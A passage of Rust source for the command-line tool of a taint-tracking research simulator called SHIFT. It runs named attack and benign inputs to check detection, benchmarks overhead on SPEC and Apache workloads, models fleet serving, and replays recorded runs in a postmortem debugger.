fn exit_code_for(exit: &Exit) -> ExitCode {
    match exit {
        Exit::Halted(0) => ExitCode::Success,
        Exit::Halted(_) => ExitCode::GuestStatus,
        Exit::Violation(_) => ExitCode::Violation,
        Exit::Fault(_) => ExitCode::Fault,
        Exit::FuelExhausted => ExitCode::Fuel,
        Exit::InsnLimit => ExitCode::InsnLimit,
        // Sessions drain parks internally (a parked guest is resumed until
        // it reaches a real exit), so a Parked can only surface through a
        // misuse of the session API — treat it as a usage error.
        Exit::Parked => ExitCode::Usage,
    }
}

/// Reports a compile failure and yields its dedicated exit code.
fn compile_failed(e: &CompileError) -> ExitCode {
    eprintln!("compile error: {e}");
    ExitCode::Compile
}

fn parse_mode(name: &str) -> Option<Mode> {
    Some(match name {
        "plain" | "uninstrumented" => Mode::Uninstrumented,
        "byte" => Mode::Shift(ShiftOptions::baseline(Granularity::Byte)),
        "word" => Mode::Shift(ShiftOptions::baseline(Granularity::Word)),
        "byte-enhanced" => Mode::Shift(ShiftOptions::enhanced(Granularity::Byte)),
        "word-enhanced" => Mode::Shift(ShiftOptions::enhanced(Granularity::Word)),
        "shadow-byte" => Mode::Shadow(Granularity::Byte),
        "shadow-word" => Mode::Shadow(Granularity::Word),
        _ => return None,
    })
}

/// Pulls `--mode <m>` out of the argument list (default: byte-level SHIFT).
fn take_mode(args: &mut Vec<String>) -> Result<Mode, String> {
    if let Some(i) = args.iter().position(|a| a == "--mode") {
        if i + 1 >= args.len() {
            return Err("--mode needs a value".into());
        }
        let name = args.remove(i + 1);
        args.remove(i);
        parse_mode(&name).ok_or_else(|| format!("unknown mode `{name}` (try `shift modes`)"))
    } else {
        Ok(Mode::Shift(ShiftOptions::baseline(Granularity::Byte)))
    }
}

fn take_flag(args: &mut Vec<String>, flag: &str) -> bool {
    if let Some(i) = args.iter().position(|a| a == flag) {
        args.remove(i);
        true
    } else {
        false
    }
}

/// Pulls `--flag <value>` out of the argument list. `Ok(None)` when the
/// flag is absent; `Err` when it is present without a value.
fn take_opt(args: &mut Vec<String>, flag: &str) -> Result<Option<String>, String> {
    let Some(i) = args.iter().position(|a| a == flag) else {
        return Ok(None);
    };
    if i + 1 >= args.len() {
        return Err(format!("{flag} needs a value"));
    }
    let value = args.remove(i + 1);
    args.remove(i);
    Ok(Some(value))
}

/// Writes an observability artifact, mapping I/O failure to a usage-style
/// error exit.
fn write_artifact(path: &str, what: &str, content: &str) -> Result<(), ExitCode> {
    std::fs::write(path, content).map_err(|e| {
        eprintln!("cannot write {what} to {path}: {e}");
        ExitCode::Usage
    })
}

fn mode_name(mode: Mode) -> String {
    match mode {
        Mode::Uninstrumented => "plain".into(),
        Mode::Shift(o) => format!(
            "shift/{}{}",
            o.granularity,
            if o.set_clr || o.nat_cmp { "-enhanced" } else { "" }
        ),
        Mode::Shadow(g) => format!("shadow/{g}"),
    }
}

fn cmd_modes() {
    println!("compilation modes:");
    for (name, what) in [
        ("plain", "no taint tracking (the experiments' baseline)"),
        ("byte", "SHIFT, byte-level tags, stock Itanium (default)"),
        ("word", "SHIFT, word-level tags, stock Itanium"),
        ("byte-enhanced", "SHIFT, byte-level, with tset/tclr + cmp.nat"),
        ("word-enhanced", "SHIFT, word-level, with tset/tclr + cmp.nat"),
        ("shadow-byte", "software-only shadow-register tracking (the ablation)"),
        ("shadow-word", "software-only, word-level tags"),
    ] {
        println!("  {name:<14} {what}");
    }
}

fn cmd_attacks(mode: Mode, trace_taint: bool, metrics: Option<String>) -> ExitCode {
    println!("{:<22} {:<24} {:>10} {:>8}", "program", "attack", "verdict", "benign");
    let mut all_ok = true;
    let mut merged = shift_core::Registry::new();
    for atk in shift_attacks::all_attacks() {
        let app = (atk.build)();
        let mut shift = Shift::new(mode);
        if trace_taint || metrics.is_some() {
            shift = shift.with_taint_trace();
        }
        let hit = match shift.run(&app, (atk.exploit)()) {
            Ok(r) => r,
            Err(e) => return compile_failed(&e),
        };
        let benign = match shift.run(&app, (atk.benign)()) {
            Ok(r) => r,
            Err(e) => return compile_failed(&e),
        };
        let verdict = match (mode, hit.exit.is_detection()) {
            (Mode::Uninstrumented, false) => "unseen".to_string(),
            (_, true) => hit
                .detected_policy()
                .map(|p| format!("caught:{p}"))
                .unwrap_or_else(|| "caught".into()),
            (_, false) => {
                all_ok = false;
                "MISSED".into()
            }
        };
        println!(
            "{:<22} {:<24} {:>10} {:>8}",
            atk.program,
            atk.attack_type,
            verdict,
            if benign.exit.is_detection() { "FP!" } else { "clean" }
        );
        if trace_taint {
            match hit.taint_chain() {
                Some(chain) => println!("{:>22}   chain: {chain}", ""),
                None => println!("{:>22}   chain: (none)", ""),
            }
        }
        if metrics.is_some() {
            merged.merge(&shift_core::metrics::run_metrics(&hit));
        }
    }
    if let Some(path) = metrics {
        if let Err(code) = write_artifact(&path, "metrics", &merged.to_json().render()) {
            return code;
        }
        println!("metrics written to {path}");
    }
    if all_ok {
        ExitCode::Success
    } else {
        ExitCode::Usage
    }
}

/// Observability options for `shift attack`.
struct AttackOpts {
    benign: bool,
    /// `Some(depth)` enables the last-instructions ring (`--trace`,
    /// `--trace-depth N`).
    trace_depth: Option<usize>,
    trace_taint: bool,
    metrics: Option<String>,
    profile: Option<String>,
}

fn cmd_attack(name: &str, mode: Mode, opts: AttackOpts) -> ExitCode {
    let Some(atk) = shift_attacks::all_attacks()
        .into_iter()
        .find(|a| a.program.to_lowercase().contains(&name.to_lowercase()))
    else {
        eprintln!("no attack matching `{name}`; programs are:");
        for a in shift_attacks::all_attacks() {
            eprintln!("  {}", a.program);
        }
        return ExitCode::Usage;
    };
    let app = (atk.build)();
    let world = if opts.benign { (atk.benign)() } else { (atk.exploit)() };
    let mut shift = Shift::new(mode);
    if opts.trace_taint {
        shift = shift.with_taint_trace();
    }
    if opts.profile.is_some() {
        shift = shift.with_profile();
    }
    let report = if let Some(depth) = opts.trace_depth {
        // Drive the machine by hand so the last instructions before the
        // detection are visible.
        use shift_core::{FuncSpan, Runtime, TaintConfig};
        let compiled = match shift.compile(&app) {
            Ok(c) => c,
            Err(e) => return compile_failed(&e),
        };
        let mut machine = shift_machine::Machine::new(&compiled.image);
        machine.enable_trace(depth);
        if opts.trace_taint {
            machine.enable_taint_observer();
        }
        if opts.profile.is_some() {
            let funcs = compiled
                .func_ranges
                .iter()
                .map(|(n, &(start, end))| FuncSpan { name: n.clone(), start, end })
                .collect();
            machine.enable_profiler(funcs);
        }
        let mut rt = Runtime::new(TaintConfig::default_secure(), world, shift.granularity());
        let exit = machine.run(&mut rt, 500_000_000);
        println!("last instructions before the end of the run:");
        print!("{}", machine.trace_listing());
        println!();
        shift_core::RunReport { exit, stats: machine.stats.clone(), runtime: rt, machine }
    } else {
        match shift.run(&app, world) {
            Ok(r) => r,
            Err(e) => return compile_failed(&e),
        }
    };
    println!("program : {} ({})", atk.program, atk.cve);
    println!("mode    : {}", mode_name(mode));
    println!("input   : {}", if opts.benign { "benign" } else { "exploit" });
    println!("exit    : {}", report.exit);
    if let Some(p) = report.detected_policy() {
        println!("policy  : {p} — {}", p.description());
    }
    if opts.trace_taint {
        match report.taint_chain() {
            Some(chain) => println!("chain   : {chain}"),
            None => println!("chain   : (none)"),
        }
    }
    println!(
        "cycles  : {} ({} instrumentation)",
        report.stats.cycles,
        report.stats.instrumentation_cycles()
    );
    if let Some(path) = &opts.metrics {
        let reg = shift_core::metrics::run_metrics(&report);
        if let Err(code) = write_artifact(path, "metrics", &reg.to_json().render()) {
            return code;
        }
        println!("metrics : written to {path}");
    }
    if let Some(path) = &opts.profile {
        let Some(prof) = report.machine.profiler() else {
            eprintln!("profiler was not armed");
            return ExitCode::Usage;
        };
        if let Err(code) = write_artifact(path, "profile", &prof.folded()) {
            return code;
        }
        println!("profile : folded stacks written to {path}");
        println!("hottest blocks:");
        for (ip, func, cycles) in prof.hot_blocks(5) {
            println!("  ip {ip:>6}  {func:<20} {cycles:>12} cycles");
        }
    }
    exit_code_for(&report.exit)
}

/// Runs the headline experiments (Figure-7 SPEC geomeans, Figure-6 Apache
/// geomeans, the fleet-serving sweep) and prints — or with `json`, writes
/// to `BENCH_shift.json` — a machine-readable summary. `workers` caps the
/// host sweep pool (0 = one thread per core); the modelled results are
/// identical at any setting. `seed` is stamped into the summary so a run
/// can be tied back to the randomized schedules it drove.
fn cmd_bench(json: bool, scale: Scale, workers: usize, seed: u64) -> ExitCode {
    let (sizes, requests): (&[usize], usize) = match scale {
        Scale::Test => (&[1 << 10, 8 << 10], 6),
        Scale::Reference => (&[1 << 10, 10 << 10, 100 << 10], 50),
    };
    shift_bench::set_sweep_workers(workers);
    let started = std::time::Instant::now();
    let summary = shift_bench::bench_summary(scale, sizes, requests, seed);
    let host = started.elapsed();
    let text = summary.render();
    if json {
        if let Err(code) = write_artifact("BENCH_shift.json", "bench summary", &text) {
            return code;
        }
        println!(
            "bench summary written to BENCH_shift.json ({:.2}s host time)",
            host.as_secs_f64()
        );
    } else {
        print!("{text}");
    }
    ExitCode::Success
}

fn cmd_spec(name: &str, mode: Mode, scale: Scale, tainted: bool) -> ExitCode {
    let benches = shift_workloads::all_benches();
    let selected: Vec<_> = if name == "all" {
        benches
    } else {
        benches.into_iter().filter(|b| b.name == name).collect()
    };
    if selected.is_empty() {
        eprintln!(
            "no benchmark `{name}`; try: all, gzip, gcc, crafty, bzip2, vpr, mcf, parser, twolf"
        );
        return ExitCode::Usage;
    }
    println!("{:<10} {:>14} {:>14} {:>10}", "bench", "cycles", "instructions", "slowdown");
    for bench in selected {
        let run = run_spec(&bench, mode, scale, tainted);
        let base = run_spec(&bench, Mode::Uninstrumented, scale, tainted);
        println!(
            "{:<10} {:>14} {:>14} {:>9.2}x",
            bench.name,
            run.stats.cycles,
            run.stats.instructions,
            run.stats.cycles as f64 / base.stats.cycles as f64
        );
    }
    ExitCode::Success
}

fn cmd_apache(size_kb: usize, requests: usize, mode: Mode) -> ExitCode {
    let run = shift_workloads::apache::run_apache(mode, size_kb << 10, requests);
    let base = shift_workloads::apache::run_apache(Mode::Uninstrumented, size_kb << 10, requests);
    println!("mode       : {}", mode_name(mode));
    println!("served     : {} requests of {size_kb} KB", run.served);
    println!("cpu cycles : {} (baseline {})", run.stats.cycles, base.stats.cycles);
    println!("io cycles  : {}", run.stats.io_cycles);
    println!(
        "overhead   : {:+.2}% end-to-end, {:.2}x cpu",
        (run.total_time() as f64 / base.total_time() as f64 - 1.0) * 100.0,
        run.stats.cycles as f64 / base.stats.cycles as f64
    );
    ExitCode::Success
}

/// `shift serve` options, after mode extraction.
struct ServeOpts {
    workers: usize,
    connections: usize,
    requests: usize,
    size_kb: Option<usize>,
    json: Option<String>,
    /// Master seed for randomized schedules (default: `SHIFT_SEED` env or
    /// the built-in default).
    seed: Option<u64>,
    /// Arm a randomized chaos injection schedule derived from the seed.
    inject: bool,
    /// Write a replay log of the run here.
    record: Option<String>,
    /// Write the merged flight-recorder timeline here as Chrome
    /// `trace_event` JSON (arms the recorder).
    trace_out: Option<String>,
    /// Write the merged metrics registry here in the Prometheus text
    /// exposition format (arms the recorder).
    prom_out: Option<String>,
    /// Snapshot serving counters every N modelled cycles (arms the
    /// recorder; the samples land in the trace file's `timeseries`).
    sample_cycles: Option<u64>,
    /// Open-loop arrival-process spec (`poisson:RATE`, `bursty:RATE[:B]`,
    /// `diurnal:RATE[:A]`). `Some` switches serving to the event-driven
    /// scheduler.
    arrivals: Option<String>,
    /// Accept-queue bound for open-loop admission control.
    accept_cap: usize,
    /// Resident-guest cap for the open-loop scheduler.
    max_resident: usize,
    /// Round-robin quantum in cycles (0 = run each CPU leg to its park).
    quantum: u64,
    /// Host simulation pool for open-loop phase 1 (default: one thread per
    /// core). Modelled results are bit-identical at any setting.
    host_workers: Option<usize>,
}

impl ServeOpts {
    /// Whether any flag asked for the flight recorder.
    fn recording(&self) -> bool {
        self.trace_out.is_some() || self.prom_out.is_some() || self.sample_cycles.is_some()
    }
}

/// Serves a deterministic Apache request stream across a modelled fleet:
/// one compile, `connections` fresh instances, `workers`-wide scheduling.
/// Succeeds when every connection ran to a halt (served responses — 200s
/// and 404s alike — are successes); otherwise exits with the first
/// non-halt's code.
fn cmd_serve(mode: Mode, opts: ServeOpts) -> ExitCode {
    use shift_core::Injection;
    use shift_workloads::apache::{apache_fleet, fleet_connections, fleet_world, ApacheStream};
    use shift_workloads::chaos;
    let stream = match opts.size_kb {
        Some(kb) => ApacheStream::Uniform(kb << 10),
        None => ApacheStream::Mixed,
    };
    let mut fleet = apache_fleet(mode);
    if opts.recording() {
        // Zero-perturbation by construction (DESIGN.md §14): arming changes
        // only host-side buffers, never the modelled outcome.
        fleet = fleet.with_flight_recorder(shift_core::FlightConfig {
            cap: shift_core::DEFAULT_TRACE_CAP,
            sample_cycles: opts.sample_cycles.unwrap_or(0),
        });
    }
    let conns = fleet_connections(stream, opts.connections, opts.requests);
    let seed = opts.seed.unwrap_or_else(chaos::master_seed);
    let faults: Vec<Vec<(u64, Injection)>> = if opts.inject {
        let mut rng = chaos::Rng::new(chaos::derive(seed, "serve-inject"));
        (0..conns.len())
            .map(|_| (0..rng.below(3)).map(|_| chaos::random_fleet_injection(&mut rng)).collect())
            .collect()
    } else {
        Vec::new()
    };
    // Recording is assembled *after* the run from its inputs and report, so
    // the serving path is identical with and without --record.
    let world = fleet_world(stream);
    if let Some(spec) = opts.arrivals.clone() {
        return cmd_serve_open_loop(mode, &opts, &fleet, &conns, &faults, &world, seed, &spec);
    }
    let report = fleet.serve_chaos(&world, &conns, &faults, opts.workers);
    println!("mode       : {}", mode_name(mode));
    println!(
        "fleet      : {} instances, {} connections x {} requests",
        report.workers,
        conns.len(),
        opts.requests
    );
    println!(
        "image      : {} insns compiled once, {} pristine pages per spawn",
        fleet.image().insn_count(),
        fleet.image().resident_pages()
    );
    println!(
        "requests   : {} served / {} recovered / {} dropped of {} delivered",
        report.served, report.recovered, report.dropped, report.requests
    );
    println!(
        "throughput : {:.0} req/s modelled ({} wall cycles)",
        report.requests_per_sec(),
        report.wall_cycles
    );
    println!(
        "latency    : p50 {} / p99 {} cycles",
        report.latency_percentile(50.0).unwrap_or(0),
        report.latency_percentile(99.0).unwrap_or(0)
    );
    if !report.violations.is_empty() {
        println!("violations : {}", report.violations.len());
    }
    if opts.inject {
        let armed: usize = faults.iter().map(Vec::len).sum();
        println!("chaos      : {armed} injections armed (seed {seed})");
    }
    println!("host       : {:.2} ms", report.host_ns as f64 / 1e6);
    if let Some(path) = &opts.trace_out {
        let events = report.merged_trace_events();
        let samples = report.merged_samples();
        let doc = shift_core::chrome_trace_json(&events, &samples);
        if let Err(code) = write_artifact(path, "trace", &doc.render()) {
            return code;
        }
        let dropped = report.trace_dropped();
        println!(
            "trace      : {} events / {} samples written to {path}{}",
            events.len(),
            samples.len(),
            if dropped > 0 { format!(" ({dropped} dropped to ring caps)") } else { String::new() }
        );
    }
    if let Some(path) = &opts.prom_out {
        if let Err(code) =
            write_artifact(path, "prometheus metrics", &report.registry.to_prometheus())
        {
            return code;
        }
        println!("metrics    : prometheus text written to {path}");
    }
    if let Some(path) = &opts.record {
        let log = shift_core::ReplayLog::capture(
            "apache", &fleet, &world, &conns, &faults, seed, &report,
        );
        if let Err(code) = write_artifact(path, "replay log", &log.render()) {
            return code;
        }
        println!("record     : replay log written to {path} ({} connections)", conns.len());
    }
    if let Some(path) = &opts.json {
        use shift_obs::Json;
        let mut pairs = vec![
            ("schema_version", Json::U64(shift_obs::SCHEMA_VERSION)),
            ("mode", Json::Str(mode_name(mode))),
            ("seed", Json::U64(seed)),
            ("workers", Json::U64(report.workers as u64)),
            ("connections", Json::U64(conns.len() as u64)),
            ("requests", Json::U64(report.requests)),
            ("served", Json::U64(report.served)),
            ("recovered", Json::U64(report.recovered)),
            ("dropped", Json::U64(report.dropped)),
            ("wall_cycles", Json::U64(report.wall_cycles)),
            ("requests_per_sec", Json::F64(report.requests_per_sec())),
            ("violations", Json::U64(report.violations.len() as u64)),
            ("host_ns", Json::U64(report.host_ns)),
            ("metrics", report.registry.to_json()),
        ];
        if let Some(record) = &opts.record {
            pairs.push(("record_log", Json::Str(record.clone())));
        }
        let doc = Json::obj(pairs);
        if let Err(code) = write_artifact(path, "fleet report", &doc.render()) {
            return code;
        }
        println!("report     : written to {path}");
    }
    match report.exits().iter().find(|e| !matches!(e, Exit::Halted(_))) {
        Some(exit) => exit_code_for(exit),
        None => ExitCode::Success,
    }
}

/// Serves the open-loop workload selected by `--arrivals`: synthesizes the
/// arrival schedule from the spec and the seed, drives the event-driven
/// scheduler ([`shift_core::Fleet::serve_open_loop`]), and reports tail
/// latency, saturation, and admission-control outcomes. Exit-code rules
/// match closed-loop serve; shedding alone is not a failure (it is the
/// admission controller doing its job).
#[allow(clippy::too_many_arguments)]
fn cmd_serve_open_loop(
    mode: Mode,
    opts: &ServeOpts,
    fleet: &shift_core::Fleet,
    conns: &[Vec<Vec<u8>>],
    faults: &shift_core::FaultPlan,
    world: &shift_core::World,
    seed: u64,
    spec: &str,
) -> ExitCode {
    use shift_core::OpenLoopConfig;
    use shift_workloads::{chaos, ArrivalProcess};
    let process = match ArrivalProcess::parse(spec) {
        Ok(p) => p,
        Err(e) => {
            eprintln!("bad --arrivals `{spec}`: {e}");
            return ExitCode::Usage;
        }
    };
    let arrivals = process.schedule(conns.len(), chaos::derive(seed, "arrivals"));
    let cfg = OpenLoopConfig {
        workers: opts.workers,
        accept_cap: opts.accept_cap,
        max_resident: opts.max_resident,
        quantum: opts.quantum,
    };
    let host = opts
        .host_workers
        .unwrap_or_else(|| std::thread::available_parallelism().map_or(1, |p| p.get()));
    let report = fleet.serve_open_loop(world, conns, faults, &arrivals, &cfg, host);
    println!("mode       : {}", mode_name(mode));
    println!("arrivals   : {} ({} connections offered)", process.spec(), report.offered);
    println!(
        "fleet      : {} modelled workers, accept-cap {}, max-resident {}, quantum {}",
        cfg.workers, cfg.accept_cap, cfg.max_resident, cfg.quantum
    );
    println!(
        "image      : {} insns compiled once, {} pristine pages per spawn",
        fleet.image().insn_count(),
        fleet.image().resident_pages()
    );
    println!(
        "admission  : {} completed / {} shed of {} offered{}",
        report.completed,
        report.shed,
        report.offered,
        if report.saturated() { " — SATURATED" } else { "" }
    );
    println!(
        "requests   : {} served / {} recovered / {} dropped of {} delivered",
        report.served, report.recovered, report.dropped, report.requests
    );
    println!(
        "sojourn    : p50 {} / p99 {} / p999 {} cycles (max {})",
        report.sojourn_percentile(50.0).unwrap_or(0),
        report.sojourn_percentile(99.0).unwrap_or(0),
        report.sojourn_percentile(99.9).unwrap_or(0),
        report.sojourn_max().unwrap_or(0)
    );
    println!(
        "throughput : {:.0} req/s modelled, {:.1} conn/s ({} wall cycles, {:.1}% utilization)",
        report.requests_per_sec(),
        report.completions_per_sec(),
        report.wall_cycles,
        report.utilization() * 100.0
    );
    println!(
        "queue      : peak depth {} / peak resident {} guests",
        report.peak_queue_depth, report.peak_resident
    );
    println!(
        "memory     : peak {} owned pages in any resident guest ({} total over the run)",
        report.peak_owned_pages, report.owned_pages_total
    );
    if !report.violations.is_empty() {
        println!("violations : {}", report.violations.len());
    }
    if opts.inject {
        let armed: usize = faults.iter().map(Vec::len).sum();
        println!("chaos      : {armed} injections armed (seed {seed})");
    }
    println!("host       : {:.2} ms ({host} host workers)", report.host_ns as f64 / 1e6);
    if let Some(path) = &opts.trace_out {
        let events = report.merged_trace_events();
        let samples = report.merged_samples();
        let doc = shift_core::chrome_trace_json(&events, &samples);
        if let Err(code) = write_artifact(path, "trace", &doc.render()) {
            return code;
        }
        println!(
            "trace      : {} events / {} samples written to {path}",
            events.len(),
            samples.len()
        );
    }
    if let Some(path) = &opts.prom_out {
        if let Err(code) =
            write_artifact(path, "prometheus metrics", &report.registry.to_prometheus())
        {
            return code;
        }
        println!("metrics    : prometheus text written to {path}");
    }
    if let Some(path) = &opts.record {
        let log = shift_core::ReplayLog::capture_open_loop(
            "apache",
            fleet,
            world,
            conns,
            faults,
            seed,
            &process.spec(),
            &arrivals,
            &report,
        );
        if let Err(code) = write_artifact(path, "replay log", &log.render()) {
            return code;
        }
        println!(
            "record     : replay log written to {path} ({} connections, {} shed)",
            conns.len(),
            report.shed
        );
    }
    if let Some(path) = &opts.json {
        use shift_obs::Json;
        let mut pairs = vec![
            ("schema_version", Json::U64(shift_obs::SCHEMA_VERSION)),
            ("mode", Json::Str(mode_name(mode))),
            ("seed", Json::U64(seed)),
            ("arrivals", Json::Str(process.spec())),
            ("workers", Json::U64(cfg.workers as u64)),
            ("accept_cap", Json::U64(cfg.accept_cap as u64)),
            ("max_resident", Json::U64(cfg.max_resident as u64)),
            ("quantum", Json::U64(cfg.quantum)),
            ("offered", Json::U64(report.offered)),
            ("completed", Json::U64(report.completed)),
            ("shed", Json::U64(report.shed)),
            ("saturated", Json::Bool(report.saturated())),
            ("requests", Json::U64(report.requests)),
            ("served", Json::U64(report.served)),
            ("recovered", Json::U64(report.recovered)),
            ("dropped", Json::U64(report.dropped)),
            ("wall_cycles", Json::U64(report.wall_cycles)),
            ("requests_per_sec", Json::F64(report.requests_per_sec())),
            ("sojourn_p50", Json::U64(report.sojourn_percentile(50.0).unwrap_or(0))),
            ("sojourn_p99", Json::U64(report.sojourn_percentile(99.0).unwrap_or(0))),
            ("sojourn_p999", Json::U64(report.sojourn_percentile(99.9).unwrap_or(0))),
            ("sojourn_max", Json::U64(report.sojourn_max().unwrap_or(0))),
            ("utilization", Json::F64(report.utilization())),
            ("peak_queue_depth", Json::U64(report.peak_queue_depth)),
            ("peak_resident", Json::U64(report.peak_resident)),
            ("peak_owned_pages", Json::U64(report.peak_owned_pages)),
            ("violations", Json::U64(report.violations.len() as u64)),
            ("host_ns", Json::U64(report.host_ns)),
            ("metrics", report.registry.to_json()),
        ];
        if let Some(record) = &opts.record {
            pairs.push(("record_log", Json::Str(record.clone())));
        }
        let doc = Json::obj(pairs);
        if let Err(code) = write_artifact(path, "open-loop report", &doc.render()) {
            return code;
        }
        println!("report     : written to {path}");
    }
    match report
        .connections
        .iter()
        .filter_map(|c| c.exit.as_ref())
        .find(|e| !matches!(e, Exit::Halted(_)))
    {
        Some(exit) => exit_code_for(exit),
        None => ExitCode::Success,
    }
}

/// Parses a REPL address operand: `0x`-prefixed hex or plain decimal.
fn parse_addr(s: &str) -> Option<u64> {
    match s.strip_prefix("0x") {
        Some(hex) => u64::from_str_radix(hex, 16).ok(),
        None => s.parse().ok(),
    }
}

/// One-line position summary for the debugger prompt.
fn repl_position(pm: &shift_core::Postmortem) -> String {
    match pm.exit() {
        Some(exit) => format!(
            "stopped: {exit} (ip {}, {} insns, {} cycles)",
            pm.ip(),
            pm.instructions(),
            pm.cycles()
        ),
        None => format!("ip {} ({} insns, {} cycles)", pm.ip(), pm.instructions(), pm.cycles()),
    }
}

const REPL_HELP: &str = "commands:\n  \
     step [n] (s)     single-step n instructions (default 1)\n  \
     run [n]          run up to n more instructions (default: the log's budget)\n  \
     regs (r)         general registers (nonzero or NaT'd) and unat\n  \
     mem <addr> [len] hex dump of guest memory (default 64 bytes)\n  \
     taint <addr> [len] tainted byte ranges in [addr, addr+len)\n  \
     bt               recent-instruction trace and provenance chain\n  \
     dis [radius]     disassembly around the current ip (default 4)\n  \
     report           the full postmortem report\n  \
     quit (q)         leave — prints the final postmortem on the way out";

/// The interactive postmortem debugger behind `shift replay --debug`.
///
/// Reads commands from stdin (prompting only when stdin is a terminal) and
/// drives the [`shift_core::Postmortem`] single-step API. On `quit` or EOF
/// the session runs to its recorded stop (if it has not already) and prints
/// the full postmortem report — so a non-interactive `--debug` (stdin
/// closed or piped empty, as in CI) behaves exactly like the batch
/// debugger did.
fn debug_repl(pm: &mut shift_core::Postmortem, log: &shift_core::ReplayLog, c: usize) -> ExitCode {
    use std::io::{BufRead, IsTerminal, Write};
    let stdin = std::io::stdin();
    let interactive = stdin.is_terminal();
    if interactive {
        println!("--- interactive postmortem: connection {c} (`help` lists commands) ---");
        println!("{}", repl_position(pm));
    }
    let mut lines = stdin.lock().lines();
    loop {
        if interactive {
            print!("(pm) ");
            std::io::stdout().flush().ok();
        }
        let Some(Ok(line)) = lines.next() else { break };
        let mut parts = line.split_whitespace();
        let Some(cmd) = parts.next() else { continue };
        match cmd {
            "q" | "quit" => break,
            "h" | "help" | "?" => println!("{REPL_HELP}"),
            "s" | "step" => {
                let n = parts.next().and_then(|v| v.parse().ok()).unwrap_or(1);
                pm.step(n);
                println!("{}", repl_position(pm));
            }
            "run" => {
                let n = parts.next().and_then(|v| v.parse().ok()).unwrap_or(log.insn_limit);
                pm.run_to_violation(n);
                println!("{}", repl_position(pm));
            }
            "r" | "regs" => {
                for (reg, val) in pm.registers() {
                    if val.value != 0 || val.nat {
                        println!(
                            "  {reg:<4} {:#018x}{}",
                            val.value,
                            if val.nat { "  NaT" } else { "" }
                        );
                    }
                }
                println!("  unat {:#018x}", pm.unat());
            }
            "mem" => {
                let Some(addr) = parts.next().and_then(parse_addr) else {
                    println!("usage: mem <addr> [len]");
                    continue;
                };
                let len = parts.next().and_then(parse_addr).unwrap_or(64);
                for row in pm.mem_slice(addr, len).chunks(16) {
                    let bytes: Vec<String> = row
                        .iter()
                        .map(|(_, b)| b.map_or("--".into(), |v| format!("{v:02x}")))
                        .collect();
                    let ascii: String = row
                        .iter()
                        .map(|(_, b)| match b {
                            Some(v) if v.is_ascii_graphic() || *v == b' ' => *v as char,
                            Some(_) => '.',
                            None => ' ',
                        })
                        .collect();
                    println!("  {:#010x}  {:<47}  |{ascii}|", row[0].0, bytes.join(" "));
                }
            }
            "taint" => {
                let Some(addr) = parts.next().and_then(parse_addr) else {
                    println!("usage: taint <addr> [len]");
                    continue;
                };
                let len = parts.next().and_then(parse_addr).unwrap_or(64);
                let runs = pm.tainted_ranges(addr, len);
                if runs.is_empty() {
                    println!("  no tainted bytes in [{addr:#x}, {:#x})", addr.saturating_add(len));
                } else {
                    for (start, n) in runs {
                        println!("  {start:#x} +{n} tainted");
                    }
                }
            }
            "bt" => {
                print!("{}", pm.trace_listing());
                match pm.provenance() {
                    Some(chain) => println!("provenance: {chain}"),
                    None => println!("provenance: (none)"),
                }
            }
            "dis" => {
                let radius = parts.next().and_then(|v| v.parse().ok()).unwrap_or(4);
                print!("{}", pm.disasm_window(radius));
            }
            "report" => print!("{}", pm.report()),
            _ => println!("unknown command `{cmd}` — `help` lists commands"),
        }
    }
    if pm.exit().is_none() {
        pm.run_to_violation(log.insn_limit);
    }
    println!("--- postmortem: connection {c} ---");
    print!("{}", pm.report());
    match pm.exit() {
        Some(exit) => exit_code_for(exit),
        None => ExitCode::Success,
    }
}

/// Replays a recorded fleet run from `path` and verifies bit-identical
/// outcomes. `--connection N` restricts to one connection; `--debug` runs
/// that connection under the postmortem debugger instead of verifying;
/// `--shrink <out>` writes a minimized single-connection reproducer.
fn cmd_replay(
    path: &str,
    connection: Option<usize>,
    debug: bool,
    shrink_out: Option<String>,
) -> ExitCode {
    let text = match std::fs::read_to_string(path) {
        Ok(t) => t,
        Err(e) => {
            eprintln!("cannot read replay log `{path}`: {e}");
            return ExitCode::Usage;
        }
    };
    let log = match shift_core::ReplayLog::parse(&text) {
        Ok(l) => l,
        Err(e) => {
            eprintln!("bad replay log `{path}`: {e}");
            return ExitCode::Usage;
        }
    };
    let Some(program) = shift_workloads::chaos::chaos_program(&log.program) else {
        eprintln!("replay log names unknown program `{}`", log.program);
        return ExitCode::Usage;
    };
    let fleet = match log.build_fleet(&program) {
        Ok(f) => f,
        Err(e) => {
            // A digest mismatch means the rebuilt image differs from the
            // recorded one — the log can no longer reproduce that run.
            eprintln!("replay diverged: {e}");
            return ExitCode::ReplayDiverged;
        }
    };
    if let Some(c) = connection {
        if c >= log.connections.len() {
            eprintln!("log has {} connections; no connection {c}", log.connections.len());
            return ExitCode::Usage;
        }
    }
    println!("log        : {path}");
    println!("program    : {} ({})", log.program, mode_name(log.mode));
    println!("connections: {} recorded, seed {}", log.connections.len(), log.seed);
    if let Some(ol) = &log.open_loop {
        println!(
            "open-loop  : {} over {} workers (accept-cap {}, max-resident {}, quantum {}); \
             {} completed / {} shed",
            ol.spec, ol.workers, ol.accept_cap, ol.max_resident, ol.quantum, ol.completed, ol.shed
        );
    }
    if debug {
        let c = connection.unwrap_or(0);
        if log.expected.get(c).is_some_and(shift_core::replay::Expected::is_shed) {
            eprintln!("connection {c} was shed by admission control — it never ran");
            return ExitCode::Usage;
        }
        let mut pm = shift_core::Postmortem::from_log(&log, &fleet, c);
        return debug_repl(&mut pm, &log, c);
    }
    if let Some(out) = shrink_out {
        let c = connection.unwrap_or(0);
        let shrunk = log.shrink(&fleet, c);
        if let Err(code) = write_artifact(&out, "shrunk reproducer", &shrunk.log.render()) {
            return code;
        }
        println!(
            "shrunk     : connection {c} -> {} requests / {} injections \
             (-{} requests, -{} injections, {} probes)",
            shrunk.log.connections[0].requests.len(),
            shrunk.log.connections[0].injections.len(),
            shrunk.removed_requests,
            shrunk.removed_injections,
            shrunk.probes,
        );
        println!("reproduce  : shift replay {out}");
        return ExitCode::Shrunk;
    }
    let targets: Vec<usize> = match connection {
        Some(c) => vec![c],
        None => (0..log.connections.len()).collect(),
    };
    let mut diverged = false;
    for c in targets {
        if log.expected.get(c).is_some_and(shift_core::replay::Expected::is_shed) {
            println!("connection {c:>2}: shed by admission control (not replayed)");
            continue;
        }
        let outcome = log.replay_connection(&fleet, c);
        if outcome.matches() {
            println!(
                "connection {c:>2}: ok ({}, digest {:016x})",
                shift_core::replay::exit_signature(&outcome.live.exit),
                outcome.live.state_digest
            );
        } else {
            diverged = true;
            println!("connection {c:>2}: DIVERGED");
            for m in &outcome.mismatches {
                println!("    {m}");
            }
        }
